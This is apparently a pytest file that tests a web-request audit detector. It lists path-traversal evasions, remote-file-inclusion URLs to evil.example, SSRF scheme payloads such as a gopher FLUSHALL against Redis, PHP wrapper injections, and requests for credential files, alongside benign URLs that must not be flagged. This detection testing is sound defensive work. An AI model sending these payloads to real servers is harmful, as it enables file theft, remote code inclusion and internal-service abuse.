"""Traversal and remote inclusion against the public evasion families (encodings, overlong UTF-8, %u forms,
fullwidth slashes, NUL bytes, Tomcat's ..;/, wrappers, SSRF schemes), and benign URL-valued parameters.
Payload shapes are the textbook ones (OWASP testing guide); none is taken from an evaluation corpus."""

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.audit.detections import inspect_request


def ids(target):
    return set(inspect_request(b"GET", target.encode()).ids)


TRAVERSAL = [
    "/dl?f=%252e%252e%252fetc%252fpasswd", "/dl?f=%25252e%25252e%25252fetc%25252fpasswd",
    "/dl?f=..%c0%af..%c0%afetc/passwd", "/dl?f=..%e0%80%af..%e0%80%afetc/passwd", "/dl?f=..%u2215..%u2215etc%u2215passwd",
    "/dl?f=..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd", "/dl?f=..%ef%bc%bc..%ef%bc%bcwindows%ef%bc%bcwin.ini",
    "/dl?f=..%00/..%00/etc/passwd", "/dl?f=..%2500/etc/passwd", "/dl?f=....//....//etc/passwd",
    "/static/..;/..;/etc/passwd", "/dl?f=.%2e/.%2e/.%2e/etc/passwd", "/dl?f=file:///etc/passwd",
    "/dl?f=php://filter/convert.base64-encode/resource=config", "/dl?f=netdoc:///etc/passwd",
    "/dl?f=%c0%2e%c0%2e/%c0%2e%c0%2e/etc/passwd", "/dl?f=..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config",
    "/dl?f=..///////..////..//////etc/passwd",
]
INCLUSION = {
    "rfi": ["/x?page=http://evil.example/shell.txt?", "/x?page=https://evil.example/c99.php",
            "/x?page=http://evil.example/x.txt%00", "/dl?f=%5c%5cevil.example%5cshare%5cx.php",
            "/dl?f=jar:http://evil.example/x.jar!/", "/dl?u=gopher://127.0.0.1:6379/_FLUSHALL",
            "/dl?u=dict://127.0.0.1:11211/stats", "/x?u=tftp://198.51.100.7/x", "/x?file=//evil.example/x.php",
            "/x?page=%2F%2F198.51.100.7%2Fx.txt%3F", "/x?u=GoPhEr%3A%2F%2F127.0.0.1%3A25%2F_HELO"],
    "php_injection": ["/dl?f=expect://id", "/dl?f=zip://uploads/a.jpg%23shell", "/dl?f=phar://uploads/a.jpg/x"],
}
BENIGN = [
    "/login?next=https://example.org/dashboard", "/go?url=https://bit.ly/3xYz",
    "/redirect?to=https://www.google.com/search?q=x", "/share?u=https://news.example.com/article.php?id=5",
    "/oauth/cb?redirect_uri=https://app.example.com/callback", "/img?src=https://cdn.example.com/a.png",
    "/feed?url=https://example.com/rss.xml", "/embed?url=https://www.youtube.com/watch?v=abc",
    "/x?src=//cdn.example.com/lib.js", "/x?next=//example.com/home", "/s?q=gopher+protocol",
    "/s?q=dict%3A%2F%2F+scheme+explained", "/s?q=jar+of+honey", "/x?return=%2Fhome",
]


@pytest.mark.parametrize("target", TRAVERSAL)
def test_traversal_evasions_are_found(target):
    assert "path_traversal" in ids(target)


@pytest.mark.parametrize("family,target", [(f, t) for f, ts in INCLUSION.items() for t in ts])
def test_inclusion_and_fetch_schemes_are_found(family, target):
    assert family in ids(target)


@pytest.mark.parametrize("target", BENIGN)
def test_url_valued_parameters_of_ordinary_sites_raise_nothing(target):
    assert ids(target) == set()


ODD_SEPARATORS = ["/dl?f=..%c0%9v..%c0%9vetc/passwd", "/dl?f=..0x2f..0x2fetc0x2fpasswd",
                  "/dl?f=..%c1%1c..%c1%1cboot.ini", "/dl?f=..%c1%af..%c1%afetc/passwd",
                  "/dl?f=..%bg%qf..%bg%qfetc/passwd", "/..%c0%9v..%c0%9v..%c0%9vwinnt/win.ini"]
WINDOWS_VALUES = ["/dl?f=/Windows/Panther/Unattend.xml",
                  "/dl?f=C:%5Cwindows%5Csystem32%5Cinetsrv%5Cconfig%5CapplicationHost.config", "/dl?f=c:%5Csysprep.inf", "/dl?f=C:/MySQL/data/mysql.err",
                  "/dl?f=file:///c:/windows/win.ini", "/dl?f=/var/mail/root", "/dl?f=/var/lib/mysql/mysql/user.MYD"]
SYSTEM_FOLDERS = ["/etc/issue", "/proc/version", "/etc/crontab", "/etc/init.d/apache2", "/c:/sysprep.inf",
                  "/Windows/Panther/Unattend.xml", "/var/mail/root"]
ORDINARY = ["/upload?f=C:%5Cfakepath%5Cphoto.jpg", "/cari?q=C%3A%5CProgram+Files%5CAdobe",
            "/s?q=C:%5CUsers%5Cme%5CDocuments%5Claporan.docx", "/s?q=unattended+installation",
            "/s?q=sysprep+windows+10", "/docs/unattend-guide", "/s?q=a..b..b", "/s?q=wait....ok", "/s?q=1..2..3",
            "/s?q=hmm..+..+ok", "/etc-info/", "/windows-11-tips", "/systems/", "/rootkit-news", "/var/",
            "/s?q=c:+drive+full", "/x?t=12:30", "/s?q=...+...+...", "/v1..v2..v2", "/x?next=https://a.example/b"]


@pytest.mark.parametrize("target", ODD_SEPARATORS + WINDOWS_VALUES)
def test_odd_separators_and_absolute_system_values_are_traversal(target):
    assert "path_traversal" in ids(target)


@pytest.mark.parametrize("target", SYSTEM_FOLDERS)
def test_system_folders_as_request_paths_count_only_when_missing(target):
    found = ids(target)
    assert "path_traversal_weak" in found or "path_traversal" in found
    if "path_traversal" not in found:  # weak: the audit counts it on a 4xx answer only
        assert found <= {"path_traversal_weak", "sensitive_file_weak"}


@pytest.mark.parametrize("target", ORDINARY)
def test_dots_drives_and_system_words_in_ordinary_requests_raise_nothing(target):
    assert ids(target) == set()


FOLDER_PARAMS = ["/phpBB/includes/db.php?phpbb_root_path=http://evil.example/",
                 "/y.php?mosConfig_absolute_path=http://evil.example/x", "/y.php?base_dir=http://evil.example/",
                 "/y.php?lang_file=http://evil.example/x.txt", "/y.php?include_path=http%3A%2F%2Fevil.example%2F",
                 "/y.php?_conf[path]=http://evil.example/", "/y.php?Template_Dir=HTTP://evil.example/"]
LINK_PARAMS = ["/x?return_path=https://example.org/", "/x?api_root=https://api.example.org/",
               "/x?root=https://example.org/", "/x?path=https://example.org/blog/", "/x?server_path=https://example.org/",
               "/x?image_path=https://cdn.example.com/a.png", "/x?file_url=https://example.org/doc.pdf",
               "/x?redirect_path=https://a.example/b", "/x?webhook_path=https://hooks.example/x"]


@pytest.mark.parametrize("target", FOLDER_PARAMS)
def test_a_remote_url_in_a_folder_or_file_parameter_is_inclusion(target):
    assert "rfi" in ids(target)


@pytest.mark.parametrize("target", LINK_PARAMS)
def test_links_and_single_word_parameters_holding_urls_raise_nothing(target):
    assert ids(target) == set()
